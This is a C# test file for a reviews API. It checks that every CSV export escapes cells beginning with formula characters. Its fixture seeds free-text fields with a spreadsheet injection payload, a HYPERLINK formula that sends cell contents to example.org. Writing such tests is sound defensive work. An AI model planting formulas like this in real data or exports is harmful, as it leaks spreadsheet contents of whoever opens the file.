using System.Text.RegularExpressions;
using Microsoft.AspNetCore.Routing;
using Microsoft.Extensions.DependencyInjection;
using Nscp.Reviews.Api.OpenApi;

namespace Nscp.Reviews.Api.Tests;

/// <summary>What somebody wrote stays text: no cell of any CSV answer begins like a formula.</summary>
public partial class OpeningAListInASpreadsheet(FormulaCase app) : IClassFixture<FormulaCase>
{
    [Fact]
    public async Task Shows_every_formula_as_the_text_that_it_is()
    {
        var formulas = FormulaCase.Beginnings.Select(b => $"'{FormulaCase.Formula(b)}").ToList();
        Cells(await CsvAsync("/api/v1/recommendations")).Intersect(formulas).ShouldBe(formulas, ignoreOrder: true);
        Cells(await CsvAsync("/api/v1/recommendations/completion?by=theme")).Intersect(formulas).Count().ShouldBe(4, "a theme is one line: no tab and no line break");
        Cells(await CsvAsync("/api/v1/cases/24-3/history")).Intersect(formulas).ShouldBe(formulas, ignoreOrder: true);
    }

    [Fact]
    public async Task Runs_nothing_whichever_list_it_is()
    {
        var lists = app.App.Services.GetRequiredService<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>()
            .Where(e => e.Metadata.GetMetadata<Documented>() is { Also: "text/csv" }).Select(e => e.RoutePattern.RawText!.Replace("{reference}", "24-3", StringComparison.Ordinal)).ToList();
        lists.Count.ShouldBeGreaterThan(7);
        foreach (var list in lists)
        {
            var cells = Cells(await CsvAsync(list.Contains("/reports/", StringComparison.Ordinal) ? $"{list}?year=2024-25" : list));
            cells.Count.ShouldBeGreaterThan(1, list);
            cells.Where(cell => cell.Length > 0 && FormulaCase.Beginnings.Contains(cell[0])).ShouldBeEmpty(list);
        }
    }

    async Task<string> CsvAsync(string route)
    {
        var reply = await app.App.Manager.GetAsync(route, "text/csv");
        reply.Raw.Content.Headers.ContentType?.MediaType.ShouldBe("text/csv", reply.Text);
        return reply.Text;
    }

    static List<string> Cells(string csv) =>
        [.. Cell().Matches(csv).Select(m => m.Groups["quoted"].Success ? m.Groups["quoted"].Value.Replace("\"\"", "\"", StringComparison.Ordinal) : m.Groups["plain"].Value)];

    [GeneratedRegex("""\G(?:^|,|\r\n)(?:"(?<quoted>(?:[^"]|"")*)"|(?<plain>[^",\r\n]*))""")]
    private static partial Regex Cell();
}

/// <summary>A case in which every field that takes free text and is listed begins like a formula.</summary>
public sealed class FormulaCase : IAsyncLifetime
{
    internal const string Beginnings = "=+-@\t\r";

    internal ReviewsApp App { get; } = new();

    internal static string Formula(char beginning) => $"{beginning}HYPERLINK(\"http://example.org?\"&A1)";

    public async ValueTask InitializeAsync()
    {
        await App.InitializeAsync();
        (await Telling.Of("/cases").SendAsync(App.Manager)).Status.ShouldBe(201);
        foreach (var beginning in Beginnings)
        {
            var (text, line) = (Formula(beginning), char.IsControl(beginning) ? "One line" : Formula(beginning));
            var recommendation = new
            {
                wording = text, source = "rapid-review", theme = line, askedOf = "SFHT", accepted = true,
                actions = new[] { new { owner = "SFHT", ownerRole = line, steps = text, dueOn = "2025-01-31" } },
            };
            var body = new { happenedOn = "2024-09-02", recommendations = new[] { recommendation }, by = new { organisation = "NCC", role = line }, reason = text };
            var reply = await App.Manager.PostAsync("cases/24-3/recommendations", body);
            reply.Status.ShouldBe(200, reply.Text);
        }
    }

    public ValueTask DisposeAsync() => App.DisposeAsync();
}
